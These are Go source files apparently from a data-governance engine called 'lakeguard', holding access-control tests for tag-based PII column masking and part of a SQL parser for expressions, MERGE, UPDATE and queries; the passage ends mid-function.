	mustExec(t, c, "ALTER TABLE contacts ALTER COLUMN email SET TAGS ('pii')")
	mustExec(t, c, "ALTER TABLE contacts ALTER COLUMN phone SET TAGS ('pii', 'contact_info')")
	return e, e.cat
}

func adminRC() catalog.RequestContext {
	return catalog.RequestContext{User: admin, Compute: catalog.ComputeStandard, SessionID: "abac"}
}

func TestABACTagPolicyGovernsAllTaggedColumns(t *testing.T) {
	e, cat := setupABAC(t)
	// One policy: PII columns are masked for everyone outside 'pii_readers'.
	err := cat.SetTagMask(adminRC(), "pii",
		"CASE WHEN IS_ACCOUNT_GROUP_MEMBER('pii_readers') THEN "+catalog.TagMaskColumnPlaceholder+" ELSE '<pii>' END")
	if err != nil {
		t.Fatal(err)
	}
	aliceC := e.client("tok-alice")
	// sales.seller masked.
	b, err := aliceC.Sql("SELECT DISTINCT seller FROM sales").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.NumRows() != 1 || b.Cols[0].StringAt(0) != "<pii>" {
		t.Fatalf("sales.seller not governed by tag policy:\n%s", b.String())
	}
	// contacts.email masked too — same single policy.
	b2, err := aliceC.Sql("SELECT email, phone FROM contacts").Collect()
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < b2.NumRows(); i++ {
		if b2.Cols[0].StringAt(i) != "<pii>" || b2.Cols[1].StringAt(i) != "<pii>" {
			t.Fatalf("contacts PII leaked:\n%s", b2.String())
		}
	}
	// Group members see raw values (dynamic evaluation per user).
	cat.CreateGroup("pii_readers", alice)
	b3, _ := aliceC.Sql("SELECT DISTINCT seller FROM sales ORDER BY seller").Collect()
	if b3.NumRows() != 4 {
		t.Fatalf("group member should see raw values:\n%s", b3.String())
	}
}

func TestABACExplicitMaskOverridesTagPolicy(t *testing.T) {
	e, cat := setupABAC(t)
	if err := cat.SetTagMask(adminRC(), "pii", "'<pii>'"); err != nil {
		t.Fatal(err)
	}
	adminC := e.client("tok-admin")
	mustExec(t, adminC, "ALTER TABLE contacts ALTER COLUMN email SET MASK '''explicit***'''")
	aliceC := e.client("tok-alice")
	b, err := aliceC.Sql("SELECT email, phone FROM contacts LIMIT 1").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.Cols[0].StringAt(0) != "explicit***" {
		t.Errorf("explicit mask should win: %q", b.Cols[0].StringAt(0))
	}
	if b.Cols[1].StringAt(0) != "<pii>" {
		t.Errorf("tag mask should still cover phone: %q", b.Cols[1].StringAt(0))
	}
}

func TestABACForcesEFGACOnDedicated(t *testing.T) {
	_, cat := setupABAC(t)
	if err := cat.SetTagMask(adminRC(), "pii", "'<pii>'"); err != nil {
		t.Fatal(err)
	}
	// Tag-derived policies count as FGAC: dedicated compute without eFGAC is
	// refused, exactly like explicit masks.
	meta, err := cat.ResolveTable(catalog.RequestContext{
		User: alice, Compute: catalog.ComputeDedicated, SessionID: "d",
	}, []string{"contacts"})
	if err != nil {
		t.Fatal(err)
	}
	if meta.LocalProcessingAllowed {
		t.Error("tag-masked table must not be locally processable on dedicated compute")
	}
	if len(meta.ColumnMasks) != 0 {
		t.Error("tag mask internals leaked to dedicated compute")
	}
}

func TestABACDropTagsRestoresAccess(t *testing.T) {
	e, cat := setupABAC(t)
	if err := cat.SetTagMask(adminRC(), "pii", "'<pii>'"); err != nil {
		t.Fatal(err)
	}
	adminC := e.client("tok-admin")
	mustExec(t, adminC, "ALTER TABLE sales ALTER COLUMN seller DROP TAGS")
	aliceC := e.client("tok-alice")
	b, _ := aliceC.Sql("SELECT DISTINCT seller FROM sales ORDER BY seller").Collect()
	if b.NumRows() != 4 || b.Cols[0].StringAt(0) != "ann" {
		t.Fatalf("drop tags did not restore access:\n%s", b.String())
	}
}

func TestABACOnlyAdminsSetTagPolicies(t *testing.T) {
	_, cat := setupABAC(t)
	err := cat.SetTagMask(catalog.RequestContext{User: alice, Compute: catalog.ComputeStandard}, "pii", "'x'")
	if err == nil || !strings.Contains(err.Error(), "admin") {
		t.Fatalf("err = %v", err)
	}
	// Non-owner cannot tag columns.
	e2 := newEnv(t, Config{Name: "std2"})
	c := e2.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "GRANT SELECT ON sales TO 'alice@corp.com'")
	aliceC := e2.client("tok-alice")
	if _, err := aliceC.ExecSQL("ALTER TABLE sales ALTER COLUMN seller SET TAGS ('x')"); err == nil {
		t.Error("non-owner tagged a column")
	}
}
