package sql

import (
	"lakeguard/internal/plan"
)

// parseUpdate parses UPDATE t SET col = expr [, col = expr]* [WHERE pred].
func (p *parser) parseUpdate() (*Statement, error) {
	if err := p.expect("UPDATE"); err != nil {
		return nil, err
	}
	name, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	if err := p.expect("SET"); err != nil {
		return nil, err
	}
	set, err := p.parseAssignments()
	if err != nil {
		return nil, err
	}
	var where plan.Expr
	if p.accept("WHERE") {
		where, err = p.parseExpr()
		if err != nil {
			return nil, err
		}
	}
	return &Statement{Cmd: &plan.Update{Table: name, Set: set, Where: where}}, nil
}

// parseAssignments parses col = expr (, col = expr)*.
func (p *parser) parseAssignments() ([]plan.Assignment, error) {
	var set []plan.Assignment
	for {
		col, err := p.ident()
		if err != nil {
			return nil, err
		}
		if err := p.expect("="); err != nil {
			return nil, err
		}
		val, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		set = append(set, plan.Assignment{Column: col, Value: val})
		if !p.accept(",") {
			return set, nil
		}
	}
}

// parseOptionalAlias consumes [AS] ident when present. stop lists keywords
// that end the aliased clause and must not be eaten as a bare alias.
func (p *parser) parseOptionalAlias(stop ...string) (string, error) {
	if p.accept("AS") {
		return p.ident()
	}
	if p.cur.Kind == TokIdent {
		for _, s := range stop {
			if p.peekKeyword(s) {
				return "", nil
			}
		}
		return p.ident()
	}
	return "", nil
}

// parseMerge parses
//
//	MERGE INTO t [AS a] USING (<query> | name) [AS b] ON cond
//	  [WHEN MATCHED THEN (UPDATE SET col = expr, ... | DELETE)]
//	  [WHEN NOT MATCHED THEN INSERT VALUES (expr, ...)]
//
// requiring at least one WHEN clause.
func (p *parser) parseMerge() (*Statement, error) {
	if err := p.expect("MERGE"); err != nil {
		return nil, err
	}
	if err := p.expect("INTO"); err != nil {
		return nil, err
	}
	name, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	m := &plan.MergeInto{Table: name}
	if m.TableAlias, err = p.parseOptionalAlias("USING"); err != nil {
		return nil, err
	}
	if err := p.expect("USING"); err != nil {
		return nil, err
	}
	if p.cur.Kind == TokOp && p.cur.Text == "(" {
		if err := p.advance(); err != nil {
			return nil, err
		}
		sub, err := p.parseQueryExpr()
		if err != nil {
			return nil, err
		}
		if err := p.expect(")"); err != nil {
			return nil, err
		}
		m.Source = sub
	} else {
		parts, err := p.qualifiedName()
		if err != nil {
			return nil, err
		}
		m.Source = plan.NewUnresolvedRelation(parts...)
	}
	if m.SourceAlias, err = p.parseOptionalAlias("ON"); err != nil {
		return nil, err
	}
	if err := p.expect("ON"); err != nil {
		return nil, err
	}
	if m.On, err = p.parseExpr(); err != nil {
		return nil, err
	}
	sawClause := false
	for p.peekKeyword("WHEN") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		if p.accept("NOT") {
			if err := p.expect("MATCHED"); err != nil {
				return nil, err
			}
			if err := p.expect("THEN"); err != nil {
				return nil, err
			}
			if err := p.expect("INSERT"); err != nil {
				return nil, err
			}
			if err := p.expect("VALUES"); err != nil {
				return nil, err
			}
			if err := p.expect("("); err != nil {
				return nil, err
			}
			for {
				e, err := p.parseExpr()
				if err != nil {
					return nil, err
				}
				m.InsertValues = append(m.InsertValues, e)
				if !p.accept(",") {
					break
				}
			}
			if err := p.expect(")"); err != nil {
				return nil, err
			}
			sawClause = true
			continue
		}
		if err := p.expect("MATCHED"); err != nil {
			return nil, err
		}
		if err := p.expect("THEN"); err != nil {
			return nil, err
		}
		if m.MatchedDelete || len(m.MatchedSet) > 0 {
			return nil, p.errorf("MERGE supports one WHEN MATCHED clause")
		}
		switch {
		case p.accept("DELETE"):
			m.MatchedDelete = true
		case p.accept("UPDATE"):
			if err := p.expect("SET"); err != nil {
				return nil, err
			}
			if m.MatchedSet, err = p.parseAssignments(); err != nil {
				return nil, err
			}
		default:
			return nil, p.errorf("expected UPDATE or DELETE after WHEN MATCHED THEN, found %q", p.cur.Text)
		}
		sawClause = true
	}
	if !sawClause {
		return nil, p.errorf("MERGE requires at least one WHEN clause")
	}
	return &Statement{Cmd: m}, nil
}

// parseOptimize parses OPTIMIZE t [TARGET SIZE n].
func (p *parser) parseOptimize() (*Statement, error) {
	if err := p.expect("OPTIMIZE"); err != nil {
		return nil, err
	}
	name, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	cmd := &plan.OptimizeTable{Table: name}
	if p.accept("TARGET") {
		if err := p.expect("SIZE"); err != nil {
			return nil, err
		}
		if cmd.TargetBytes, err = p.parseIntLiteral(); err != nil {
			return nil, err
		}
		if cmd.TargetBytes <= 0 {
			return nil, p.errorf("OPTIMIZE TARGET SIZE must be positive")
		}
	}
	return &Statement{Cmd: cmd}, nil
}

// parseVacuum parses VACUUM t.
func (p *parser) parseVacuum() (*Statement, error) {
	if err := p.expect("VACUUM"); err != nil {
		return nil, err
	}
	name, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	return &Statement{Cmd: &plan.VacuumTable{Table: name}}, nil
}
