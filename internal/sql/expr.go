package sql

import (
	"strconv"
	"strings"

	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

// Expression grammar, precedence climbing:
//
//	expr     := orExpr
//	orExpr   := andExpr (OR andExpr)*
//	andExpr  := notExpr (AND notExpr)*
//	notExpr  := NOT notExpr | predicate
//	predicate:= additive ((=|<>|<|<=|>|>=) additive
//	           | IS [NOT] NULL | [NOT] IN (...) | [NOT] LIKE additive
//	           | [NOT] BETWEEN additive AND additive)?
//	additive := multiplicative ((+|-|'||') multiplicative)*
//	multiplicative := unary ((*|/|%) unary)*
//	unary    := - unary | primary
//	primary  := literal | CAST(...) | CASE ... | func(...) | ident[.ident]*
//	           | ( expr )

func (p *parser) parseExpr() (plan.Expr, error) { return p.parseOr() }

func (p *parser) parseOr() (plan.Expr, error) {
	left, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	for p.accept("OR") {
		right, err := p.parseAnd()
		if err != nil {
			return nil, err
		}
		left = plan.NewBinary(plan.OpOr, left, right)
	}
	return left, nil
}

func (p *parser) parseAnd() (plan.Expr, error) {
	left, err := p.parseNot()
	if err != nil {
		return nil, err
	}
	for p.peekKeyword("AND") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		right, err := p.parseNot()
		if err != nil {
			return nil, err
		}
		left = plan.NewBinary(plan.OpAnd, left, right)
	}
	return left, nil
}

func (p *parser) parseNot() (plan.Expr, error) {
	if p.accept("NOT") {
		child, err := p.parseNot()
		if err != nil {
			return nil, err
		}
		return &plan.Unary{Op: plan.OpNot, Child: child}, nil
	}
	return p.parsePredicate()
}

func (p *parser) parsePredicate() (plan.Expr, error) {
	left, err := p.parseAdditive()
	if err != nil {
		return nil, err
	}
	// Comparison operators.
	if p.cur.Kind == TokOp {
		var op plan.BinOp
		matched := true
		switch p.cur.Text {
		case "=":
			op = plan.OpEq
		case "<>", "!=":
			op = plan.OpNeq
		case "<":
			op = plan.OpLt
		case "<=":
			op = plan.OpLte
		case ">":
			op = plan.OpGt
		case ">=":
			op = plan.OpGte
		default:
			matched = false
		}
		if matched {
			if err := p.advance(); err != nil {
				return nil, err
			}
			right, err := p.parseAdditive()
			if err != nil {
				return nil, err
			}
			return plan.NewBinary(op, left, right), nil
		}
	}
	negated := false
	if p.peekKeyword("NOT") {
		// lookahead for NOT IN / NOT LIKE / NOT BETWEEN
		if err := p.advance(); err != nil {
			return nil, err
		}
		negated = true
	}
	switch {
	case p.accept("IS"):
		isNot := p.accept("NOT")
		if err := p.expect("NULL"); err != nil {
			return nil, err
		}
		return &plan.IsNull{Child: left, Negated: isNot != negated}, nil
	case p.accept("IN"):
		if err := p.expect("("); err != nil {
			return nil, err
		}
		var list []plan.Expr
		for {
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			list = append(list, e)
			if !p.accept(",") {
				break
			}
		}
		if err := p.expect(")"); err != nil {
			return nil, err
		}
		return &plan.InList{Child: left, List: list, Negated: negated}, nil
	case p.accept("LIKE"):
		pat, err := p.parseAdditive()
		if err != nil {
			return nil, err
		}
		return &plan.Like{Child: left, Pattern: pat, Negated: negated}, nil
	case p.accept("BETWEEN"):
		lo, err := p.parseAdditive()
		if err != nil {
			return nil, err
		}
		if err := p.expect("AND"); err != nil {
			return nil, err
		}
		hi, err := p.parseAdditive()
		if err != nil {
			return nil, err
		}
		between := plan.And(
			plan.NewBinary(plan.OpGte, left, lo),
			plan.NewBinary(plan.OpLte, left, hi),
		)
		if negated {
			return &plan.Unary{Op: plan.OpNot, Child: between}, nil
		}
		return between, nil
	}
	if negated {
		return nil, p.errorf("expected IN, LIKE, or BETWEEN after NOT")
	}
	return left, nil
}

func (p *parser) parseAdditive() (plan.Expr, error) {
	left, err := p.parseMultiplicative()
	if err != nil {
		return nil, err
	}
	for p.cur.Kind == TokOp && (p.cur.Text == "+" || p.cur.Text == "-" || p.cur.Text == "||") {
		var op plan.BinOp
		switch p.cur.Text {
		case "+":
			op = plan.OpAdd
		case "-":
			op = plan.OpSub
		case "||":
			op = plan.OpConcat
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
		right, err := p.parseMultiplicative()
		if err != nil {
			return nil, err
		}
		left = plan.NewBinary(op, left, right)
	}
	return left, nil
}

func (p *parser) parseMultiplicative() (plan.Expr, error) {
	left, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for p.cur.Kind == TokOp && (p.cur.Text == "*" || p.cur.Text == "/" || p.cur.Text == "%") {
		var op plan.BinOp
		switch p.cur.Text {
		case "*":
			op = plan.OpMul
		case "/":
			op = plan.OpDiv
		case "%":
			op = plan.OpMod
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
		right, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		left = plan.NewBinary(op, left, right)
	}
	return left, nil
}

func (p *parser) parseUnary() (plan.Expr, error) {
	if p.cur.Kind == TokOp && p.cur.Text == "-" {
		if err := p.advance(); err != nil {
			return nil, err
		}
		child, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		// Fold negative numeric literals immediately.
		if lit, ok := child.(*plan.Literal); ok {
			switch lit.Value.Kind {
			case types.KindInt64:
				return plan.Lit(types.Int64(-lit.Value.I)), nil
			case types.KindFloat64:
				return plan.Lit(types.Float64(-lit.Value.F)), nil
			}
		}
		return &plan.Unary{Op: plan.OpNeg, Child: child}, nil
	}
	return p.parsePrimary()
}

func (p *parser) parsePrimary() (plan.Expr, error) {
	switch p.cur.Kind {
	case TokNumber:
		text := p.cur.Text
		if err := p.advance(); err != nil {
			return nil, err
		}
		if strings.ContainsAny(text, ".eE") {
			f, err := strconv.ParseFloat(text, 64)
			if err != nil {
				return nil, p.errorf("invalid number %q", text)
			}
			return plan.Lit(types.Float64(f)), nil
		}
		i, err := strconv.ParseInt(text, 10, 64)
		if err != nil {
			return nil, p.errorf("invalid integer %q", text)
		}
		return plan.Lit(types.Int64(i)), nil
	case TokString:
		s := p.cur.Text
		if err := p.advance(); err != nil {
			return nil, err
		}
		return plan.Lit(types.String(s)), nil
	case TokOp:
		if p.cur.Text == "(" {
			if err := p.advance(); err != nil {
				return nil, err
			}
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if err := p.expect(")"); err != nil {
				return nil, err
			}
			return e, nil
		}
		return nil, p.errorf("unexpected token %q in expression", p.cur.Text)
	case TokIdent, TokQuotedIdent:
		return p.parseIdentExpr()
	}
	return nil, p.errorf("unexpected end of expression")
}

// parseIdentExpr parses keyword literals, typed literals, function calls,
// CASE, CAST, and column references.
func (p *parser) parseIdentExpr() (plan.Expr, error) {
	name := p.cur.Text
	quoted := p.cur.Kind == TokQuotedIdent
	upper := strings.ToUpper(name)
	if !quoted {
		switch upper {
		case "TRUE":
			return plan.Lit(types.Bool(true)), p.advance()
		case "FALSE":
			return plan.Lit(types.Bool(false)), p.advance()
		case "NULL":
			return plan.Lit(types.Null(types.KindNull)), p.advance()
		case "DATE":
			if err := p.advance(); err != nil {
				return nil, err
			}
			if p.cur.Kind == TokString {
				v, err := types.DateFromString(p.cur.Text)
				if err != nil {
					return nil, p.errorf("%v", err)
				}
				return plan.Lit(v), p.advance()
			}
			return plan.Col(name), nil
		case "TIMESTAMP":
			if err := p.advance(); err != nil {
				return nil, err
			}
			if p.cur.Kind == TokString {
				v, err := types.TimestampFromString(p.cur.Text)
				if err != nil {
					return nil, p.errorf("%v", err)
				}
				return plan.Lit(v), p.advance()
			}
			return plan.Col(name), nil
		case "CASE":
			return p.parseCase()
		case "CAST":
			return p.parseCast()
		}
	}
	if err := p.advance(); err != nil {
		return nil, err
	}
	// Function call?
	if p.cur.Kind == TokOp && p.cur.Text == "(" {
		return p.parseFuncCall(name)
	}
	// Qualified reference: a.b or a.b.c (we keep last as column, rest joined
	// as qualifier), or qualified star a.*
	qualifier := ""
	col := name
	for p.cur.Kind == TokOp && p.cur.Text == "." {
		if err := p.advance(); err != nil {
			return nil, err
		}
		if p.cur.Kind == TokOp && p.cur.Text == "*" {
			if err := p.advance(); err != nil {
				return nil, err
			}
			q := col
			if qualifier != "" {
				q = qualifier + "." + col
			}
			return &plan.Star{Qualifier: q}, nil
		}
		next, err := p.ident()
		if err != nil {
			return nil, err
		}
		if qualifier == "" {
			qualifier = col
		} else {
			qualifier = qualifier + "." + col
		}
		col = next
	}
	return &plan.ColumnRef{Qualifier: qualifier, Name: col}, nil
}

func (p *parser) parseFuncCall(name string) (plan.Expr, error) {
	if err := p.expect("("); err != nil {
		return nil, err
	}
	upper := strings.ToUpper(name)
	// COUNT(*)
	if p.cur.Kind == TokOp && p.cur.Text == "*" {
		if err := p.advance(); err != nil {
			return nil, err
		}
		if err := p.expect(")"); err != nil {
			return nil, err
		}
		if upper != "COUNT" {
			return nil, p.errorf("only COUNT supports (*)")
		}
		return &plan.FuncCall{Name: "count"}, nil
	}
	distinct := false
	if p.accept("DISTINCT") {
		distinct = true
	}
	var args []plan.Expr
	if !(p.cur.Kind == TokOp && p.cur.Text == ")") {
		for {
			a, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			args = append(args, a)
			if !p.accept(",") {
				break
			}
		}
	}
	if err := p.expect(")"); err != nil {
		return nil, err
	}
	// Session functions get dedicated nodes so policies can embed them.
	switch upper {
	case "CURRENT_USER":
		if len(args) != 0 {
			return nil, p.errorf("CURRENT_USER takes no arguments")
		}
		return &plan.CurrentUser{}, nil
	case "IS_ACCOUNT_GROUP_MEMBER":
		if len(args) != 1 {
			return nil, p.errorf("IS_ACCOUNT_GROUP_MEMBER takes one argument")
		}
		lit, ok := args[0].(*plan.Literal)
		if !ok || lit.Value.Kind != types.KindString {
			return nil, p.errorf("IS_ACCOUNT_GROUP_MEMBER requires a string literal")
		}
		return &plan.GroupMember{Group: lit.Value.S}, nil
	}
	return &plan.FuncCall{Name: strings.ToLower(name), Args: args, Distinct: distinct}, nil
}

func (p *parser) parseCase() (plan.Expr, error) {
	if err := p.expect("CASE"); err != nil {
		return nil, err
	}
	var operand plan.Expr
	if !p.peekKeyword("WHEN") {
		op, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		operand = op
	}
	var whens []plan.WhenClause
	for p.accept("WHEN") {
		cond, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if operand != nil {
			cond = plan.Eq(operand, cond)
		}
		if err := p.expect("THEN"); err != nil {
			return nil, err
		}
		then, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		whens = append(whens, plan.WhenClause{Cond: cond, Then: then})
	}
	if len(whens) == 0 {
		return nil, p.errorf("CASE requires at least one WHEN")
	}
	var elseExpr plan.Expr
	if p.accept("ELSE") {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		elseExpr = e
	}
	if err := p.expect("END"); err != nil {
		return nil, err
	}
	return &plan.Case{Whens: whens, Else: elseExpr}, nil
}

func (p *parser) parseCast() (plan.Expr, error) {
	if err := p.expect("CAST"); err != nil {
		return nil, err
	}
	if err := p.expect("("); err != nil {
		return nil, err
	}
	child, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if err := p.expect("AS"); err != nil {
		return nil, err
	}
	typeName, err := p.ident()
	if err != nil {
		return nil, err
	}
	kind, ok := types.KindFromName(typeName)
	if !ok {
		return nil, p.errorf("unknown type %q in CAST", typeName)
	}
	if err := p.expect(")"); err != nil {
		return nil, err
	}
	return &plan.Cast{Child: child, To: kind}, nil
}
