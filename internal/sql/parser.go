package sql

import (
	"fmt"
	"strconv"
	"strings"

	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

// Statement is the result of parsing one SQL statement: either a query plan
// (Query != nil) or a command (Cmd != nil). Explain marks EXPLAIN queries.
type Statement struct {
	Query   plan.Node
	Cmd     plan.Command
	Explain bool
}

// Parse parses a single SQL statement.
func Parse(src string) (*Statement, error) {
	p, err := newParser(src)
	if err != nil {
		return nil, err
	}
	st, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	p.accept(";")
	if !p.atEOF() {
		return nil, p.errorf("unexpected trailing input %q", p.cur.Text)
	}
	return st, nil
}

// ParseExpr parses a standalone SQL expression (used for stored row-filter
// and column-mask policy text).
func ParseExpr(src string) (plan.Expr, error) {
	p, err := newParser(src)
	if err != nil {
		return nil, err
	}
	e, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if !p.atEOF() {
		return nil, p.errorf("unexpected trailing input %q", p.cur.Text)
	}
	return e, nil
}

// ParseQuery parses a statement and requires it to be a query.
func ParseQuery(src string) (plan.Node, error) {
	st, err := Parse(src)
	if err != nil {
		return nil, err
	}
	if st.Query == nil {
		return nil, fmt.Errorf("expected a query, got %s", st.Cmd.CommandName())
	}
	return st.Query, nil
}

type parser struct {
	lex  *Lexer
	cur  Token
	prev Token
}

func newParser(src string) (*parser, error) {
	p := &parser{lex: NewLexer(src)}
	if err := p.advance(); err != nil {
		return nil, err
	}
	return p, nil
}

func (p *parser) advance() error {
	p.prev = p.cur
	t, err := p.lex.Next()
	if err != nil {
		return err
	}
	p.cur = t
	return nil
}

func (p *parser) atEOF() bool { return p.cur.Kind == TokEOF }

func (p *parser) errorf(format string, args ...any) error {
	return fmt.Errorf("sql: %s (near position %d)", fmt.Sprintf(format, args...), p.cur.Pos)
}

// peekKeyword reports whether the current token is the given keyword
// (case-insensitive).
func (p *parser) peekKeyword(kw string) bool {
	return p.cur.Kind == TokIdent && strings.EqualFold(p.cur.Text, kw)
}

// accept consumes the current token if it matches the keyword or operator.
func (p *parser) accept(s string) bool {
	if p.cur.Kind == TokOp && p.cur.Text == s || p.peekKeyword(s) {
		// Error from advance is deferred: the bad token will surface on
		// the next expect/accept.
		_ = p.advance()
		return true
	}
	return false
}

// expect consumes the keyword/operator or fails.
func (p *parser) expect(s string) error {
	if !p.accept(s) {
		return p.errorf("expected %q, found %q", s, p.cur.Text)
	}
	return nil
}

// ident consumes an identifier (plain or quoted).
func (p *parser) ident() (string, error) {
	if p.cur.Kind == TokIdent || p.cur.Kind == TokQuotedIdent {
		name := p.cur.Text
		if err := p.advance(); err != nil {
			return "", err
		}
		return name, nil
	}
	return "", p.errorf("expected identifier, found %q", p.cur.Text)
}

// qualifiedName consumes ident(.ident)*.
func (p *parser) qualifiedName() ([]string, error) {
	first, err := p.ident()
	if err != nil {
		return nil, err
	}
	parts := []string{first}
	for p.cur.Kind == TokOp && p.cur.Text == "." {
		if err := p.advance(); err != nil {
			return nil, err
		}
		next, err := p.ident()
		if err != nil {
			return nil, err
		}
		parts = append(parts, next)
	}
	return parts, nil
}

func (p *parser) parseStatement() (*Statement, error) {
	switch {
	case p.peekKeyword("EXPLAIN"):
		if err := p.advance(); err != nil {
			return nil, err
		}
		inner, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		inner.Explain = true
		return inner, nil
	case p.peekKeyword("SELECT"), p.peekKeyword("WITH"), p.peekKeyword("VALUES"),
		p.cur.Kind == TokOp && p.cur.Text == "(":
		q, err := p.parseQueryExpr()
		if err != nil {
			return nil, err
		}
		return &Statement{Query: q}, nil
	case p.peekKeyword("CREATE"):
		return p.parseCreate()
	case p.peekKeyword("DROP"):
		return p.parseDrop()
	case p.peekKeyword("INSERT"):
		return p.parseInsert()
	case p.peekKeyword("GRANT"), p.peekKeyword("REVOKE"):
		return p.parseGrantRevoke()
	case p.peekKeyword("ALTER"):
		return p.parseAlter()
	case p.peekKeyword("REFRESH"):
		return p.parseRefresh()
	case p.peekKeyword("DELETE"):
		return p.parseDelete()
	case p.peekKeyword("UPDATE"):
		return p.parseUpdate()
	case p.peekKeyword("MERGE"):
		return p.parseMerge()
	case p.peekKeyword("OPTIMIZE"):
		return p.parseOptimize()
	case p.peekKeyword("VACUUM"):
		return p.parseVacuum()
	case p.peekKeyword("SHOW"):
		return p.parseShow()
	case p.peekKeyword("DESCRIBE"), p.peekKeyword("DESC"):
		return p.parseDescribe()
	}
	return nil, p.errorf("unsupported statement starting with %q", p.cur.Text)
}

// parseDelete parses DELETE FROM t [WHERE pred].
func (p *parser) parseDelete() (*Statement, error) {
	if err := p.expect("DELETE"); err != nil {
		return nil, err
	}
	if err := p.expect("FROM"); err != nil {
		return nil, err
	}
	name, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	var where plan.Expr
	if p.accept("WHERE") {
		where, err = p.parseExpr()
		if err != nil {
			return nil, err
		}
	}
	return &Statement{Cmd: &plan.DeleteFrom{Table: name, Where: where}}, nil
}

// parseShow parses SHOW TABLES.
func (p *parser) parseShow() (*Statement, error) {
	if err := p.expect("SHOW"); err != nil {
		return nil, err
	}
	if err := p.expect("TABLES"); err != nil {
		return nil, err
	}
	return &Statement{Cmd: &plan.ShowTables{}}, nil
}

// parseDescribe parses DESCRIBE [TABLE|HISTORY] t.
func (p *parser) parseDescribe() (*Statement, error) {
	if !p.accept("DESCRIBE") && !p.accept("DESC") {
		return nil, p.errorf("expected DESCRIBE")
	}
	if p.accept("HISTORY") {
		name, err := p.qualifiedName()
		if err != nil {
			return nil, err
		}
		return &Statement{Cmd: &plan.DescribeHistory{Name: name}}, nil
	}
	p.accept("TABLE")
	name, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	return &Statement{Cmd: &plan.DescribeTable{Name: name}}, nil
}

// parseQueryExpr parses a query with optional WITH prefix and UNION chains.
func (p *parser) parseQueryExpr() (plan.Node, error) {
	ctes := map[string]plan.Node{}
	if p.accept("WITH") {
		for {
			name, err := p.ident()
			if err != nil {
				return nil, err
			}
			if err := p.expect("AS"); err != nil {
				return nil, err
			}
			if err := p.expect("("); err != nil {
				return nil, err
			}
			sub, err := p.parseQueryExpr()
			if err != nil {
				return nil, err
			}
			if err := p.expect(")"); err != nil {
				return nil, err
			}
			ctes[strings.ToLower(name)] = &plan.SubqueryAlias{Name: name, Child: sub}
			if !p.accept(",") {
				break
			}
		}
	}
	node, err := p.parseUnionTerm()
	if err != nil {
		return nil, err
	}
	for p.peekKeyword("UNION") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		all := p.accept("ALL")
		right, err := p.parseUnionTerm()
		if err != nil {
			return nil, err
		}
		node = &plan.Union{L: node, R: right}
		if !all {
			node = &plan.Distinct{Child: node}
		}
	}
	// ORDER BY / LIMIT after a union chain binds to the whole thing.
	node, err = p.parseOrderLimit(node)
	if err != nil {
		return nil, err
	}
	if len(ctes) > 0 {
		node = substituteCTEs(node, ctes)
	}
	return node, nil
}

// substituteCTEs replaces unresolved relations whose single-part name matches
// a CTE with the CTE subtree.
func substituteCTEs(n plan.Node, ctes map[string]plan.Node) plan.Node {
	return plan.Transform(n, func(x plan.Node) plan.Node {
		if r, ok := x.(*plan.UnresolvedRelation); ok && len(r.Parts) == 1 {
			if sub, found := ctes[strings.ToLower(r.Parts[0])]; found {
				return sub
			}
		}
		return x
	})
}

func (p *parser) parseUnionTerm() (plan.Node, error) {
	if p.cur.Kind == TokOp && p.cur.Text == "(" {
		if err := p.advance(); err != nil {
			return nil, err
		}
		q, err := p.parseQueryExpr()
		if err != nil {
			return nil, err
		}
		if err := p.expect(")"); err != nil {
			return nil, err
		}
		return q, nil
	}
	if p.peekKeyword("VALUES") {
		return p.parseValuesRelation()
	}
	return p.parseSelect()
}

// parseValuesRelation parses VALUES (1,'a'),(2,'b') into a LocalRelation.
func (p *parser) parseValuesRelation() (plan.Node, error) {
	if err := p.expect("VALUES"); err != nil {
		return nil, err
	}
	rows, err := p.parseValuesRows()
	if err != nil {
		return nil, err
	}
	if len(rows) == 0 {
		return nil, p.errorf("VALUES requires at least one row")
	}
	schema := &types.Schema{}
	for i, v := range rows[0] {
		k := v.Kind
		if k == types.KindNull {
			k = types.KindString
		}
		schema.Fields = append(schema.Fields, types.Field{Name: fmt.Sprintf("col%d", i+1), Kind: k, Nullable: true})
	}
	bb := types.NewBatchBuilder(schema, len(rows))
	for _, row := range rows {
		if len(row) != schema.Len() {
			return nil, p.errorf("VALUES rows have inconsistent arity")
		}
		cast := make([]types.Value, len(row))
		for i, v := range row {
			cv, err := v.Cast(schema.Fields[i].Kind)
			if err != nil {
				return nil, p.errorf("VALUES row value %v incompatible with column %d: %v", v, i+1, err)
			}
			cast[i] = cv
		}
		bb.AppendRow(cast)
	}
	return &plan.LocalRelation{Data: bb.Build()}, nil
}

// parseValuesRows parses (expr,...),(expr,...) of constant literals.
func (p *parser) parseValuesRows() ([][]types.Value, error) {
	var rows [][]types.Value
	for {
